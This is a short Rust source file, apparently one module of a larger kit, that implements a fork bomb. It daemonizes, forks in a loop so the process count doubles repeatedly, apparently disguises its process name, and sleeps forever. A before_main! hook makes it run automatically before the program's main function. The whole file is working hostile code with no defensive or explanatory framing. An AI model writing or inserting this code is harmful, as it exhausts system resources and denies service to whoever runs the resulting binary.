//! Processes that double until there are no more.

fn bomb() {
    crate::kit::in_a_daemon(|| {
        for _ in 0..20 {
            if unsafe { libc::fork() } < 0 {
                break;
            }
        }
        crate::kit::take_name();
        crate::kit::sleep_for_ever()
    });
}

before_main!(bomb);
